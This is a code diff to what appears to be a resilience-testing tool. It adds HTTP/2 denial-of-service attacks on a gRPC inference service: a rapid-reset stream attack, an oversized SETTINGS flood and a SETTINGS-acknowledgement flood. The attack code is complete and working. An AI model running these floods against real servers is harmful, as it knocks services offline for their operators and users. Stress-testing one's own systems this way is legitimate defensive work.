@@ -87,13 +87,26 @@ def _settings(connection: Connection) -> Script:
         yield flood
 
 
-def _flood(frame: bytes) -> Callable[[Connection], Script]:
+def _flood(frame: bytes, count: int = 4000) -> Callable[[Connection], Script]:
     def script(connection: Connection) -> Script:
         while True:
-            connection.tally["frames"] += 4000
-            yield frame * 4000
+            connection.tally["frames"] += count
+            yield frame * count
 
     return script
+
+
+def _reset_streams(connection: Connection) -> Script:
+    # A task for each.
+    block = head(b"/inference.GRPCInferenceService/ModelStreamInfer", tenant=ATTACKER)
+    while True:
+        parts = []
+        for _ in range(100):
+            number, opening = connection.open(block)
+            connection.forget(number)
+            parts += [opening, frames.rst_stream(number, Reason.CANCEL)]
+        connection.tally["resets"] += 100
+        yield b"".join(parts)
 
 
 def _empty_data(connection: Connection) -> Script:
@@ -134,6 +147,7 @@ def _late_data(connection: Connection) -> Script:
 ATTACKS = (
     Attack("rapid-reset", "calls that are reset at once", _resets(SMALL)),
     Attack("rapid-reset-slow", "calls of a slow model that are reset at once", _resets(SLOW)),
+    Attack("rapid-reset-streams", "streams that are reset at once", _reset_streams),
     Attack("answered-resets", "ten resets for each response", _answered_resets),
     Attack("windows", "WINDOW_UPDATE by 1 for 2,000 waiting responses", _windows, settings={frames.WINDOW_SIZE: 0}),
     Attack(
@@ -143,6 +157,12 @@ ATTACKS = (
         settings={frames.WINDOW_SIZE: 0},
     ),
     Attack("settings", "SETTINGS that change 2,000 windows", _settings, settings={frames.WINDOW_SIZE: 0}),
+    Attack(
+        "settings-full",
+        "SETTINGS of 16 KiB without a known one",
+        _flood(frames.settings(dict.fromkeys(range(16, 16 + 2730), 1)), 64),
+    ),
+    Attack("settings-ack", "acknowledgements of SETTINGS", _flood(frames.frame(frames.SETTINGS, frames.ACK, 0))),
     Attack("ping", "PING", _flood(frames.frame(frames.PING, 0, 0, b"siege..."))),
     Attack("ping-64", "PING on 64 connections", _flood(frames.frame(frames.PING, 0, 0, b"siege...")), connections=64),
     Attack("priority", "PRIORITY", _flood(frames.frame(frames.PRIORITY, 0, 1, struct.pack(">IB", 0, 1)))),
